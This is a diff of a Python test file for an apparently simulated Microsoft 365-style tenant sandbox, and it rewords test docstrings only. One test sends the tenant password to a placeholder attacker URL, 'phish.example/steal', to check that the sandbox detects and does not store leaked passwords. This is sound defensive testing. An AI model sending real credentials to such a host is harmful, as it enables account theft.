@@ -39,7 +39,7 @@ def test_an_unknown_name_is_refused_with_the_allowed_ones(wrong):
 
 
 def test_the_given_port_and_password_are_used():
-    """A given port and password are used; else the port is free and the password is new."""
+    """A given port and password are used; without them, the port is free and the password is new."""
     with sandbox.running() as one:
         port, password = one.port, one.password
     with sandbox.running(port=port, password="pa ss") as two:
@@ -48,7 +48,7 @@ def test_the_given_port_and_password_are_used():
 
 
 def test_tokens_begin_as_a_test_wants_them(enter):
-    """With a token prefix, cookies, sign-in parameters and the signatures of addresses begin with it."""
+    """With a token prefix, cookies, sign-in parameters and URL signatures begin with it."""
     with sandbox.running(token_prefix="KNOWN") as running:
         visitor = enter(running=running)
         address = visitor.userphoto(running.subject).url
@@ -61,7 +61,7 @@ def test_tokens_begin_as_a_test_wants_them(enter):
 
 
 def test_a_run_knows_what_the_demo_needs(tenant):
-    """A running sandbox provides names, addresses, accounts and pages."""
+    """A running sandbox provides names, URLs, accounts and pages."""
     assert tenant.subject == tenant.accounts["ana"] == "ana.popescu@contoso.com"
     assert {"helpdesk", "ioana"} <= set(tenant.accounts)
     assert len(tenant.pages) == 2
@@ -74,7 +74,7 @@ def test_a_run_knows_what_the_demo_needs(tenant):
 
 
 def test_the_end_does_not_wait_for_open_connections(stranger):
-    """Neither an idle connection nor one that waits for a photo delays the end."""
+    """Neither an idle connection nor one that waits for a photo delays stopping the sandbox."""
     with sandbox.running("slow-images") as running:
         idle, waiting = type(stranger)(running), type(stranger)(running)
         idle.visit("https://www.office.com/")
@@ -94,7 +94,7 @@ def test_the_end_does_not_wait_for_open_connections(stranger):
 
 
 def test_requests_are_journaled_by_kind(tenant, stranger):
-    """The journal distinguishes the tenant's own hosts, calls to the browser's vendor, and all others."""
+    """The journal distinguishes the tenant's own hosts, the browser vendor's hosts, and all others."""
     for host in ("www.office.com", "update.googleapis.com", "accounts.google.com", "login.microsoftonline.example"):
         stranger.ask(f"https://{host}/somewhere?x=1")
     assert [(entry.host, entry.kind, entry.status) for entry in tenant.journal.requests] == [
@@ -108,7 +108,7 @@ def test_requests_are_journaled_by_kind(tenant, stranger):
 
 @pytest.mark.parametrize("how", [{"data": {"x": "PASSWORD"}}, {"headers": {"Authorization": "Basic PASSWORD"}}, {}])
 def test_a_password_is_noticed_wherever_it_goes(tenant, stranger, how):
-    """A password in a body, a header or an address is noticed, and is never written down."""
+    """A password in a body, a header or a URL is noticed but never stored."""
     written = {kind: {k: v.replace("PASSWORD", tenant.password) for k, v in part.items()} for kind, part in how.items()}
     address = "https://phish.example/steal" + ("" if how else f"?p={tenant.password}")
     stranger.ask(address, **written)
@@ -117,7 +117,7 @@ def test_a_password_is_noticed_wherever_it_goes(tenant, stranger, how):
 
 
 def test_the_clock_moves_forward_only(tenant):
-    """The clock refuses a negative step."""
+    """The clock moves forward only, so it refuses a negative step."""
     before = tenant.now()
     tenant.advance(3600)
     assert 3600 <= (tenant.now() - before).total_seconds() < 3660
@@ -126,7 +126,7 @@ def test_the_clock_moves_forward_only(tenant):
 
 
 def test_the_control_host_answers_on_its_own_name_only(tenant, stranger):
-    """The paths of the control host do not exist on other hosts."""
+    """The control host's paths do not exist on other hosts."""
     assert stranger.ask("https://sandbox.invalid/state").status == 200
     assert stranger.ask("https://www.office.com/state").status == 404
 
@@ -158,7 +158,7 @@ def test_another_process_can_control_the_sandbox(tenant, stranger):
     ],
 )
 def test_a_wrong_command_is_refused_with_its_reason(stranger, path, body, reason):
-    """A wrong command is answered with 400 and the reason."""
+    """A wrong command gets status 400 and the reason."""
     answer = stranger.ask(f"https://sandbox.invalid/{path}", data=body)
     assert answer.status == 400
     assert reason in answer.json["error"]
